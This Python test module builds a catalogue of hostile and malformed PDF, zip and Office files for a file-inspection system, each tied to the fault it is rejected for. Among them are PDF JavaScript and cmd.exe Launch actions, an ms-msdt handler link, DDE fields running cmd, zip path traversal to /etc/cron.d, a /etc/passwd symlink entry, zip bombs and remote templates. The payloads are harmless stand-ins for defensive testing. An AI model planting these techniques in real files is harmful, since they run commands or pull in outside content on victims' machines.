"""Hostile and odd files, each with the fault it is refused for. All are built here, none does any harm.

`FILES`: name → (extension, how to build it, fault).
"""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pikepdf

from evidence.inspection import archive, images, office
from evidence.inspection.faults import FileFault as Fault
from tests.evidence import corpus

BENIGN = Path(__file__).with_name("benign")
File = tuple[str, Callable[[], bytes], Fault]
EXE = b"MZ" + bytes(200) + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF" + bytes(200)
SCRIPT = b"#!/bin/sh\necho\n"
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(100)
SEVEN = b"7z\xbc\xaf\x27\x1c" + bytes(100)
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FILES: dict[str, File] = {}


def add(extension: str, fault: Fault, **files: Callable[[], bytes] | bytes) -> None:
    for name, made in files.items():
        build = made if callable(made) else (lambda content=made: content)
        FILES[f"{extension[1:]}: {name.replace('_', ' ')}"] = (extension, build, fault)


@cache
def benign(name: str) -> bytes:
    return (BENIGN / name).read_bytes()


def small_zip() -> bytes:
    return corpus.zipped({"a.txt": "a"})


# --- PDF ------------------------------------------------------------------------------------------
def pdf(catalog: str = "", *more: str, page: str = "", trailer: str = "") -> bytes:
    """A page of objects 1 to 3; those of `more` are from 4 on."""
    return corpus.written_pdf(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>",
            *more,
        ],
        trailer,
    )


def action(described: str) -> bytes:
    """What a click on the page does."""
    return pdf(page=f"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << {described} >> >>]")


def stream(content: bytes, described: str = "") -> str:
    return f"<< /Length {len(content)} {described} >>\nstream\n{content.decode('latin-1')}\nendstream"


def attached(name: str, content: bytes) -> bytes:
    names = f"/Names << /EmbeddedFiles << /Names [({name}) << /Type /Filespec /F ({name}) /EF << /F 4 0 R >> >>] >> >>"
    hexed = content.hex().encode() + b">"
    return pdf(names, stream(hexed, "/Type /EmbeddedFile /Filter /ASCIIHexDecode"))


def saved_pdf(content: bytes, **options: object) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(buffer, **options)
    return buffer.getvalue()


def locked_pdf(level: int) -> bytes:
    return saved_pdf(corpus.pdf(), encryption=pikepdf.Encryption(user="secret", owner="owner", R=level))


def form_pdf(script: str) -> bytes:
    xfa = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>{script}</template></xdp:xdp>'.encode()
    return pdf("/AcroForm << /Fields [] /XFA 4 0 R >>", stream(xfa))


JS = "/S /JavaScript /JS (app.alert\\(1\\))"


def zip_in_pdf() -> bytes:
    """A zip file whose comment is the end of the PDF."""
    package = small_zip()
    end = b"\nendstream\nendobj\n%%EOF\n"
    package = package[:-2] + struct.pack("<H", len(end)) + end
    return corpus.pdf() + b"\n9 0 obj\n<< >>\nstream\n" + package


# --- Zip ------------------------------------------------------------------------------------------
def entry(name: bytes, content: bytes = b"a", **changes: int) -> tuple[bytes, bytes, int]:
    """Return the local entry, its line of the directory (with place 0), and where the place is in that line."""
    crc = zlib.crc32(content)
    flags, method, size = changes.get("flags", 0), changes.get("method", 0), changes.get("size", len(content))
    fields = struct.pack("<HHHHIII", flags, method, 0, 0x21, crc, len(content), size)
    local = b"PK\x03\x04\x14\x00" + fields + struct.pack("<HH", len(name), 0) + name + content
    attributes = changes.get("attributes", 0) << 16
    line = b"PK\x01\x02\x14\x03\x14\x00" + fields + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, attributes, 0)
    return local, line + name, len(line) - 4


def raw_zip(*entries: tuple[bytes, bytes, int], places: tuple[int, ...] = (), gap: bytes = b"") -> bytes:
    body, directory = b"", b""
    for number, (local, line, place) in enumerate(entries):
        start = places[number] if places else len(body)
        directory += line[:place] + struct.pack("<I", start) + line[place + 4 :]
        body += local
    body += gap
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end


def zipped_file(name: str, content: bytes) -> bytes:
    return corpus.zipped({name: content})


def overlapping_zip() -> bytes:
    """A file whose content is another file's entry."""
    inner = entry(b"b.txt", b"b" * 50)
    outer = entry(b"a.txt", inner[0])
    return raw_zip(outer, (b"", inner[1], inner[2]), places=(0, len(outer[0]) - len(inner[0])))


def nested_zip(levels: int) -> bytes:
    content = small_zip()
    for _level in range(levels):
        content = corpus.zipped({"a.zip": content})
    return content


def many_entries(count: int) -> bytes:
    return corpus.zipped({f"{number}.txt": b"a" for number in range(count)})


S_LINK, S_DEVICE = 0o120777, 0o020666


def same_entry_zip() -> bytes:
    local, line, place = entry(b"a.txt")
    return raw_zip((local, line, place), (b"", entry(b"b.txt")[1], place), places=(0, 0))


def broken_entry() -> tuple[bytes, bytes, int]:
    local, line, place = entry(b"a.txt", b"aaaa")
    return local[:-1] + b"b", line, place


def compressed_zip(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as package:
        package.writestr("a.txt", "a" * 100)
    return buffer.getvalue()


# --- Office ---------------------------------------------------------------------------------------
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"


def relations(*lines: tuple[str, str, str], mode: str = 'TargetMode="External"') -> str:
    each = "".join(f'<Relationship Id="{i}" Type="{R}/{kind}" Target="{target}" {mode}/>' for i, kind, target in lines)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'


def word_with(kind: str, target: str, part: str = "document.xml") -> bytes:
    return corpus.word(**{f"word/_rels/{part}.rels": relations(("rId1", kind, target))})


def word_of(body: str) -> bytes:
    return corpus.word(f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>')


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def word_parts(**parts: bytes | str) -> bytes:
    return corpus.word(**{name.replace("__", "/").replace("_", "."): content for name, content in parts.items()})


def with_parts(package: bytes, **parts: str | bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as whole:
        present = {name: whole.read(name) for name in whole.namelist()}
    return corpus.zipped({**present, **parts})


def large_sheet(formula: str, to: int = 2_500_000) -> bytes:
    """A sheet whose formula is so many bytes behind the start, or its name's first letter is."""
    before = '<sheetData><row r="1"><c r="A1"><v>'
    with zipfile.ZipFile(io.BytesIO(corpus.workbook([1]))) as package:
        start = package.read("xl/worksheets/sheet1.xml").index(b"<sheetData>") + len(before)
    return sheet_of(f"<v>{'1' * (to - start - 5)}</v>{formula}")


def sheet_of(cell: str) -> bytes:
    changed = f'<sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData>'.encode()
    book = corpus.workbook([1])
    with zipfile.ZipFile(io.BytesIO(book)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    start, end = sheet.index(b"<sheetData>"), sheet.index(b"</sheetData>") + len(b"</sheetData>")
    return with_parts(book, **{"xl/worksheets/sheet1.xml": sheet[:start] + changed + sheet[end:]})


def book_with(name: str, content: str) -> bytes:
    return with_parts(corpus.workbook([1]), **{name: content})


def slides_with(old: bytes, new: bytes) -> bytes:
    return corpus.with_part_changed(benign("python-pptx-chart.pptx"), "ppt/slides/slide1.xml", old, new)


def native_object(name: str = "\x01Ole10Native", **options: bytes) -> bytes:
    return compound({name: EXE}, **options)


VBA = "application/vnd.ms-office.vbaProject"
LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
CLICK = b"<a:hlinkClick "
# --- Old Office -----------------------------------------------------------------------------------
PACKAGE = bytes.fromhex("0c00030000000000c000000000000046")
FORMULA = bytes.fromhex("02ce020000000000c000000000000046")
OUTWARD = bytes.fromhex("0003000000000000c000000000000046")
END, FREE = 0xFFFFFFFE, 0xFFFFFFFF


def compound(streams: dict[str, bytes], root_class: bytes = bytes(16), *, after: bytes = b"") -> bytes:
    """A compound file. "a/b" is stream b in storage a. Streams are filled up to 4 KB, so that they have sectors of their own."""
    entries: list[tuple[str, int, bytes]] = [("Root Entry", 5, b"")]
    parents = [-1]
    folders: dict[str, int] = {"": 0}
    for name, content in streams.items():
        folder, _, leaf = name.rpartition("/")
        if folder not in folders:
            folders[folder] = len(entries)
            entries.append((folder, 1, b""))
            parents.append(0)
        parents.append(folders[folder])
        entries.append((leaf, 2, content.ljust(4_096, b"\0")))
    table: list[int] = []
    body = b""
    starts = []
    directory_sectors = -(-len(entries) // 4)
    for content in [bytes(512 * directory_sectors), *(content for _name, _kind, content in entries)]:
        count = -(-len(content) // 512)
        starts.append(len(table) if count else END)
        if count:
            table += [*range(len(table) + 1, len(table) + count), END]
            body += content.ljust(count * 512, b"\0")
    fat_sectors = 1
    while len(table) + fat_sectors > fat_sectors * 128:
        fat_sectors += 1
    places = range(len(table), len(table) + fat_sectors)
    table += [0xFFFFFFFD] * fat_sectors
    table += [FREE] * (fat_sectors * 128 - len(table))
    directory = b""
    for number, (name, kind, content) in enumerate(entries):
        siblings = [other for other in range(1, len(entries)) if parents[other] == parents[number] and other > number]
        children = [other for other in range(1, len(entries)) if parents[other] == number]
        raw = (name + "\0").encode("utf-16-le")
        directory += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
        directory += struct.pack(
            "<III", FREE, siblings[0] if siblings and number else FREE, children[0] if children else FREE
        )
        directory += (root_class if not number else bytes(16)) + bytes(20)
        directory += struct.pack("<IQ", starts[number + 1] if kind == 2 else 0, len(content) if kind == 2 else 0)
    directory = directory.ljust(512 * directory_sectors, b"\0")
    head = struct.pack(
        "<8s16sHHHHH6xIIIIIIIII", OLE, bytes(16), 62, 3, 0xFFFE, 9, 6, 0, fat_sectors, 0, 0, 4096, END, 0, END, 0
    )
    head += struct.pack("<109I", *places, *[FREE] * (109 - fat_sectors))
    return head + directory + body[len(directory) :] + struct.pack(f"<{len(table)}I", *table) + after


def old_word(text: bytes = b"", flags: int = 0, template: str = "", **more: bytes) -> bytes:
    strings = (
        struct.pack("<HHH", 0xFFFF, 2, 0)
        + struct.pack("<H", 0)
        + struct.pack("<H", len(template))
        + template.encode("utf-16-le")
    )
    head = bytearray(0x400)
    struct.pack_into("<H", head, 0, 0xA5EC)
    struct.pack_into("<H", head, 10, flags)
    struct.pack_into("<II", head, 0x19A, 0, len(strings))
    return compound({"WordDocument": bytes(head) + text, "0Table": strings, **more})


def record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def old_book(*records: bytes, **more: bytes) -> bytes:
    return compound({"Workbook": record(0x809, bytes(16)) + b"".join(records) + record(0x0A), **more})


def atom(kind: int, data: bytes = b"", version: int = 0) -> bytes:
    return struct.pack("<HHI", version, kind, len(data)) + data


def old_slides(*atoms: bytes, mark: int = 0xE391C05F, **more: bytes) -> bytes:
    user = atom(0x0FF6, struct.pack("<II", 20, mark) + bytes(12))
    return compound({"Current User": user, "PowerPoint Document": b"".join(atoms) or atom(0x03E8, b"x" * 40), **more})


def click(action_number: int) -> bytes:
    return atom(0x0FF3, bytes(8) + bytes([action_number]) + bytes(7))


TALK = struct.pack("<HH", 0, 6) + b"\x00cmd\x03/c"


def endless_chain() -> bytes:
    content = bytearray(old_word())
    # The first sector of the first stream comes after itself.
    place = len(content) - 512
    struct.pack_into("<I", content, place + 4 * 1, 1)
    return bytes(content)


def shared_sector() -> bytes:
    content = bytearray(old_word())
    # Both streams start at the first one's sector.
    directory = 512
    first = struct.unpack_from("<I", content, directory + 128 + 116)[0]
    struct.pack_into("<I", content, directory + 256 + 116, first)
    return bytes(content)


# --- Pictures -------------------------------------------------------------------------------------
def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture(image_format: str) -> bytes:
    return corpus.image(image_format, (200, 150))


def flipped(content: bytes, place: int) -> bytes:
    changed = bytearray(content)
    changed[place] ^= 0xFF
    return bytes(changed)


def large_png(rows: int, height: int = 20_000) -> bytes:
    """A gray PNG larger than what is decoded as a whole: 20,000 × `height` pixels, with some of its rows."""
    header = struct.pack(">IIBBBBB", 20_000, height, 16, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(120_001) * rows))
        + chunk(b"IEND", b"")
    )


def huge_jpeg() -> bytes:
    content = bytearray(picture("JPEG"))
    place = content.index(b"\xff\xc0")
    struct.pack_into(">HH", content, place + 5, 60_000, 60_000)
    return bytes(content)


def huge_tiff() -> bytes:
    content = bytearray(corpus.tiff(1))
    for place in (16 + 2 + 8, 16 + 2 + 12 + 8):
        struct.pack_into("<I", content, place, 60_000)
    return bytes(content)


def endless_tiff() -> bytes:
    content = bytearray(corpus.tiff(1))
    struct.pack_into("<I", content, 16 + 2 + 9 * 12, 16)
    struct.pack_into("<I", content, 16 + 2 + 5 * 12 + 8, 1 << 30)
    return bytes(content)


def comment_jpeg() -> bytes:
    """A zip file in a JPEG's comment, whose own comment is the picture."""
    whole = picture("JPEG")
    package = small_zip()
    package = package[:-2] + struct.pack("<H", len(whole) - 2) + b""
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(package) + 2) + package + whole[2:]


# --- Text, mail, film, OFD ------------------------------------------------------------------------
def mail(*parts: str, kind: str = "multipart/mixed; boundary=b") -> bytes:
    head = f"From: a@example.cn\nTo: b@example.cn\nSubject: a\nMIME-Version: 1.0\nContent-Type: {kind}\n\n"
    return (head + "".join(f"--b\n{part}\n" for part in parts) + "--b--\n").encode()


def mailed(name: str, content: bytes) -> str:
    return (
        f'Content-Type: application/octet-stream; name="{name}"\nContent-Transfer-Encoding: base64\n'
        f'Content-Disposition: attachment; filename="{name}"\n\n{base64.encodebytes(content).decode()}'
    )


def outlook(name: str = "", content: bytes = b"", kind: str = "IPM.Note", **more: bytes) -> bytes:
    streams = {"__properties_version1.0": bytes(32), "__substg1.0_001A001F": kind.encode("utf-16-le"), **more}
    if name:
        place = "__attach_version1.0_#00000000"
        streams[f"{place}/__substg1.0_3707001F"] = name.encode("utf-16-le")
        streams[f"{place}/__substg1.0_37010102"] = content
    return compound(streams)


def ofd(**changes: str | bytes | None) -> bytes:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    parts: dict[str, str | bytes | None] = {
        "OFD.xml": f"<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": f'<ofd:Document {space}><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages>'
        "<ofd:Attachments>Attachments.xml</ofd:Attachments></ofd:Document>",
        "Doc_0/Pages/Page_0/Content.xml": f"<ofd:Page {space}/>",
        **changes,
    }
    return corpus.zipped({name: content for name, content in parts.items() if content is not None})


def ofd_with(name: str, content: bytes) -> bytes:
    listed = f"<ofd:Attachments xmlns:ofd='http://www.ofdspec.org/2016'><ofd:Attachment><ofd:FileLoc>{name}</ofd:FileLoc></ofd:Attachment>"
    return ofd(**{"Doc_0/Attachments.xml": f"{listed}</ofd:Attachments>", f"Doc_0/{name}": content})


# === Which file has which fault ==================================================================

add(
    ".pdf",
    Fault.SCRIPT,
    script_on_opening=lambda: pdf(f"/OpenAction << {JS} >>"),
    script_in_the_table_of_names=lambda: pdf(f"/Names << /JavaScript << /Names [(a) << {JS} >>] >> >>"),
    script_behind_a_link=lambda: action(JS),
    script_of_a_page=lambda: pdf(page=f"/AA << /O << {JS} >> >>"),
    script_of_a_field=lambda: pdf("/AcroForm << /Fields [4 0 R] >>", f"<< /FT /Tx /T (a) /AA << /K << {JS} >> >> >>"),
    script_with_an_escaped_name=lambda: action("/S /J#61vaScript /J#53 (app.alert\\(1\\))"),
    script_in_a_stream=lambda: pdf("/OpenAction << /S /JavaScript /JS 4 0 R >>", stream(b"app.alert(1)")),
    script_that_no_page_uses=lambda: pdf("", f"<< {JS} >>"),
    script_in_an_object_stream=lambda: saved_pdf(
        pdf(f"/OpenAction << {JS} >>"), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    script_under_an_owners_password=lambda: saved_pdf(
        pdf(f"/OpenAction << {JS} >>"), encryption=pikepdf.Encryption(user="", owner="owner", R=6)
    ),
    script_of_a_sound=lambda: action("/S /Rendition /JS (app.alert\\(1\\))"),
    script_after_another_action=lambda: pdf(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << {JS} >> >>"),
    address_that_is_a_script=lambda: action("/S /URI /URI (javascript:alert\\(1\\))"),
    script_of_a_form=lambda: form_pdf("<script contentType='application/x-javascript'>x</script>"),
)
add(
    ".pdf",
    Fault.LAUNCH,
    program_behind_a_link=lambda: action("/S /Launch /F (cmd.exe)"),
    program_on_opening=lambda: pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
    address_of_a_handler=lambda: action("/S /URI /URI (ms-msdt:/id PCWDiagnostic)"),
    address_of_a_search=lambda: action("/S /URI /URI (search-ms:query=a&crumb=location:b)"),
)
add(
    ".pdf",
    Fault.SUBMIT,
    form_that_is_sent=lambda: action("/S /SubmitForm /F << /FS /URL /F (https://example.com/) >>"),
    form_of_xfa_that_is_sent=lambda: form_pdf('<submit format="xml" target="https://example.com/"/>'),
)
add(
    ".pdf",
    Fault.REMOTE_ACTION,
    other_file_behind_a_link=lambda: action("/S /GoToR /F (other.pdf) /D [0 /Fit]"),
    embedded_file_behind_a_link=lambda: action("/S /GoToE /T << /R /C /N (a) >>"),
    data_that_is_read=lambda: action("/S /ImportData /F (data.fdf)"),
    address_on_opening=lambda: pdf("/OpenAction << /S /URI /URI (https://example.com/) >>"),
    address_of_a_page=lambda: pdf(page="/AA << /O << /S /URI /URI (https://example.com/) >> >>"),
)
add(
    ".pdf",
    Fault.REMOTE_CONTENT,
    bytes_of_a_stream_elsewhere=lambda: pdf("", "<< /Length 0 /F (other.bin) >>\nstream\n\nendstream"),
    attachment_elsewhere=lambda: pdf("/AF [<< /Type /Filespec /FS /URL /F (https://example.com/a.pdf) >>]"),
    page_of_another_file=lambda: pdf(
        "", "<< /Length 0 /Subtype /Form /Ref << /F (a.pdf) /Page 0 >> >>\nstream\n\nendstream"
    ),
)
add(
    ".pdf",
    Fault.EMBEDDED_PROGRAM,
    attached_program=lambda: attached("a.exe", EXE),
    attached_program_called_text=lambda: attached("a.txt", EXE),
    attached_script=lambda: attached("a.js", b"alert(1)"),
    attached_shortcut=lambda: attached("a.txt", SHORTCUT),
    film_that_runs=lambda: pdf(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
)
add(
    ".pdf",
    Fault.EMBEDDED_FILE,
    attached_archive=lambda: attached("a.rar", RAR),
    attached_web_page=lambda: attached("a.html", PAGE),
    attached_without_extension=lambda: attached("a", b"a"),
    film=lambda: pdf(page="/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]"),
)
add(".pdf", Fault.MACRO, attached_macros=lambda: attached("a.docm", corpus.word()))
add(".pdf", Fault.DTD, attached_xml_with_a_dtd=lambda: attached("a.xml", b'<!DOCTYPE a SYSTEM "b"><a/>'))
add(".pdf", Fault.DTD, form_with_a_dtd=lambda: form_pdf("<!DOCTYPE a>"))
add(
    ".pdf",
    Fault.LOCKED,
    password_of_40_bits=corpus.locked_pdf,
    password_of_128_bits=lambda: locked_pdf(4),
    password_of_256_bits=lambda: locked_pdf(6),
    certificate=lambda: pdf("", "<< /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >>", trailer="/Encrypt 4 0 R"),
)
add(
    ".pdf",
    Fault.DAMAGED,
    words=b"%PDF-1.7\nnothing\n%%EOF",
    cut_off=lambda: corpus.pdf(pages=3)[:-200],
    no_page=corpus.pdf_without_pages,
    cut_off_although_it_has_an_early_end=lambda: benign("qpdf-linearized.pdf")[:-2_000],
    pages_that_hold_themselves=lambda: corpus.written_pdf(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"], ""
    ),
)
add(
    ".pdf",
    Fault.BYTES_BEFORE,
    web_page_before_it=lambda: b"<html>" + corpus.pdf(),
    words_before_it=lambda: b"HTTP/1.1 200 OK\r\n\r\n" + corpus.pdf(),
    program_before_it=lambda: EXE + corpus.pdf(),
)
add(".pdf", Fault.BYTES_AFTER, words_after_it=lambda: corpus.pdf() + b"<!-- sent by -->")
add(".pdf", Fault.BYTES_AFTER, web_page_after_it=lambda: corpus.pdf() + PAGE)
add(".pdf", Fault.HIDDEN_PROGRAM, program_after_it=lambda: corpus.pdf() + EXE)
add(".pdf", Fault.HIDDEN_PROGRAM, script_after_it=lambda: corpus.pdf() + b"\n" + SCRIPT)
add(
    ".pdf",
    Fault.HIDDEN_ARCHIVE,
    zip_after_it=lambda: corpus.pdf() + small_zip(),
    rar_after_it=lambda: corpus.pdf() + RAR,
    seven_zip_after_it=lambda: corpus.pdf() + SEVEN,
    zip_within_it_to_its_end=zip_in_pdf,
)
add(".pdf", Fault.IS_PROGRAM, program=EXE, program_of_linux=ELF, shortcut=SHORTCUT)
add(".pdf", Fault.IS_ARCHIVE, zip=small_zip, rar=RAR, gzip=b"\x1f\x8b\x08" + bytes(50))
add(".pdf", Fault.IS_WEB_PAGE, web_page=PAGE)
add(".pdf", Fault.NOT_WHAT_IT_SAYS, picture=lambda: corpus.image("PNG"), mail=lambda: benign("mail-plain.eml"))
add(
    ".zip",
    Fault.OUTSIDE_PATH,
    path_upwards=lambda: raw_zip(entry(b"../../etc/cron.d/a.txt")),
    path_upwards_of_windows=lambda: raw_zip(entry(b"..\\..\\a.txt")),
    path_from_the_root=lambda: raw_zip(entry(b"/etc/a.txt")),
    path_of_a_drive=lambda: raw_zip(entry(b"C:\\Windows\\a.txt")),
    path_of_a_server=lambda: raw_zip(entry(b"\\\\server\\a.txt")),
    name_with_nul=lambda: raw_zip(entry(b"a.txt\0.exe")),
)
add(".zip", Fault.LINKED_FILE, link=lambda: raw_zip(entry(b"a.txt", b"/etc/passwd", attributes=S_LINK)))
add(".zip", Fault.LINKED_FILE, device=lambda: raw_zip(entry(b"a.txt", b"", attributes=S_DEVICE)))
add(".zip", Fault.OVERLAP, entry_within_an_entry=overlapping_zip)
add(".zip", Fault.OVERLAP, one_entry_for_two_names=same_entry_zip)
add(
    ".zip",
    Fault.DOUBLED_PART,
    one_name_twice=lambda: raw_zip(entry(b"a.txt"), entry(b"a.txt", b"b")),
    one_name_in_two_cases=lambda: raw_zip(entry(b"a.txt"), entry(b"A.TXT", b"b")),
    file_and_folder_of_one_name=lambda: raw_zip(entry(b"a"), entry(b"a/", b"")),
)
add(
    ".zip",
    Fault.CONTRADICTORY,
    other_name_in_the_entry=lambda: raw_zip((entry(b"b.exe")[0], *entry(b"a.txt")[1:])),
    entry_outside_the_directory=lambda: raw_zip(entry(b"a.txt"), gap=entry(b"hidden.exe", EXE)[0]),
    other_size_in_the_directory=lambda: corpus.lying_zip(zipped_file("a.txt", b"aaaa")),
    bytes_between_its_entries=lambda: raw_zip(entry(b"a.txt"), gap=bytes(100)),
)
add(".zip", Fault.LOCKED, password=lambda: raw_zip(entry(b"a.txt", b"?" * 20, flags=1)))
add(".zip", Fault.LOCKED, strong_encryption=lambda: raw_zip(entry(b"a.txt", b"?" * 20, flags=0x41)))
add(
    ".zip",
    Fault.ODD_COMPRESSION,
    bzip2=lambda: compressed_zip(zipfile.ZIP_BZIP2),
    lzma=lambda: compressed_zip(zipfile.ZIP_LZMA),
)
add(".zip", Fault.ODD_COMPRESSION, deflate64=lambda: raw_zip(entry(b"a.txt", method=9)))
add(
    ".zip",
    Fault.TOO_MUCH_INSIDE,
    bomb=lambda: zipped_file("a.txt", bytes(30_000_000)),
    file_that_declares_4_gb=lambda: raw_zip(entry(b"a.txt", size=0xFFFFFFF0)),
    bomb_in_a_zip=lambda: zipped_file("a.zip", zipped_file("a.txt", bytes(30_000_000))),
)
add(
    ".zip",
    Fault.TOO_MANY_FILES,
    one_file_too_many=lambda: many_entries(archive.MOST_MEMBERS + 1),
    ten_thousand_files=lambda: many_entries(10_000),
)
add(
    ".zip",
    Fault.DAMAGED,
    cut_off=lambda: small_zip()[:-30],
    wrong_checksum=lambda: raw_zip(broken_entry()),
    empty=raw_zip,
    only_clutter=lambda: zipped_file("__MACOSX/._a.txt", b"a"),
    damaged_stream=lambda: raw_zip(entry(b"a.txt", b"\xff\xff\xff", method=8)),
    damaged_document=lambda: zipped_file("a.docx", corpus.word()[:-40]),
)
add(
    ".zip",
    Fault.TOO_DEEP,
    zips_in_zips=lambda: nested_zip(5),
    folders_in_folders=lambda: zipped_file("a/" * 20 + "a.txt", b"a"),
)
add(
    ".zip",
    Fault.BYTES_BEFORE,
    words_before_it=lambda: b"words" + small_zip(),
    program_before_it=lambda: EXE + small_zip(),
)
add(
    ".zip", Fault.BYTES_AFTER, words_after_it=lambda: small_zip() + b"words", program_after_it=lambda: small_zip() + EXE
)
add(
    ".zip",
    Fault.EMBEDDED_PROGRAM,
    program=lambda: zipped_file("a.exe", EXE),
    program_called_pdf=lambda: zipped_file("a.pdf", EXE),
    shortcut=lambda: zipped_file("a.lnk", SHORTCUT),
    program_with_two_extensions=lambda: zipped_file("a.pdf.exe", EXE),
    script=lambda: zipped_file("run.bat", b"@echo off"),
    program_in_a_zip_in_it=lambda: zipped_file("a.zip", zipped_file("a.exe", EXE)),
)
add(".zip", Fault.EMBEDDED_FILE, rar=lambda: zipped_file("a.rar", RAR), web_page=lambda: zipped_file("a.html", PAGE))
add(".zip", Fault.SCRIPT, pdf_with_a_script=lambda: zipped_file("a.pdf", pdf(f"/OpenAction << {JS} >>")))
add(".zip", Fault.MACRO, document_with_macros=lambda: zipped_file("a.docm", corpus.word()))
add(".zip", Fault.IS_ARCHIVE, rar_by_another_name=RAR, seven_zip_by_another_name=SEVEN)
add(".zip", Fault.IS_PROGRAM, program_by_another_name=EXE)
add(".zip", Fault.NOT_WHAT_IT_SAYS, words=b"not a zip file", old_office=OLE + bytes(600))
add(
    ".docx",
    Fault.MACRO,
    document_that_holds_macros=lambda: corpus.word(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    macros_by_their_name=lambda: corpus.word(**{"word/vbaProject.bin": b"x"}),
    macros_by_their_type=lambda: corpus.with_part_changed(
        corpus.word(**{"word/a.bin": b"x"}),
        "[Content_Types].xml",
        b"</Types>",
        f'<Override PartName="/word/a.bin" ContentType="{VBA}"/></Types>'.encode(),
    ),
    macros_in_an_embedded_workbook=lambda: corpus.word(
        **{"word/embeddings/a.xlsx": with_parts(corpus.workbook(), **{"xl/vbaProject.bin": b"x"})}
    ),
)
add(
    ".docx",
    Fault.EXTERNAL_TEMPLATE,
    template_of_an_address=lambda: word_with("attachedTemplate", "https://example.com/a.dotm", "settings.xml"),
    template_of_a_server=lambda: word_with("attachedTemplate", "file:///\\\\server\\share\\a.dotm", "settings.xml"),
    template_of_a_share=lambda: word_with("attachedTemplate", "\\\\server\\share\\a.dotm", "settings.xml"),
    template_in_upper_case=lambda: word_with("attachedTemplate", "HTTP://example.com/a.dotm", "settings.xml"),
    template_in_the_strict_form=lambda: corpus.word(
        **{
            "word/_rels/settings.xml.rels": relations(
                ("rId1", "attachedTemplate", "https://example.com/a.dotm")
            ).replace(R, "http://purl.oclc.org/ooxml/officeDocument/relationships")
        }
    ),
)
add(
    ".docx",
    Fault.REMOTE_CONTENT,
    picture_of_an_address=lambda: word_with("image", "https://example.com/a.png"),
    picture_of_a_server=lambda: word_with("image", "file://server/share/a.png"),
    linked_object=lambda: word_with("oleObject", "https://example.com/a.html!"),
    linked_object_of_this_machine=lambda: word_with("oleObject", "file:///C:/a.xlsx"),
    frame_of_an_address=lambda: word_with("frame", "https://example.com/"),
    picture_of_a_field=lambda: word_of(field('INCLUDEPICTURE "https://example.com/a.png"')),
    text_of_a_field=lambda: word_of(field('INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx"')),
    link_of_a_field=lambda: word_of(field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1"')),
    link_declared_in_the_text=lambda: corpus.word(
        f'<w:document xmlns:w="{W}" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p>'
        '<o:OLEObject Type="Link" ProgID="htmlfile"/></w:p></w:body></w:document>'
    ),
)
add(
    ".docx",
    Fault.DDE,
    dde=lambda: word_of(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc")),
    dde_in_pieces=lambda: word_of(field("D", "DEA", "UTO cmd /k calc")),
    dde_simple=lambda: word_of('<w:fldSimple w:instr=" DDE cmd calc"/>'),
    dde_in_lower_case=lambda: word_of(field(" ddeauto cmd calc")),
    dde_spelled_by_another_field=lambda: word_of(field("QUOTE 68 68 69 65 85 84 79 32 99")),
    dde_in_a_footer=lambda: corpus.word(
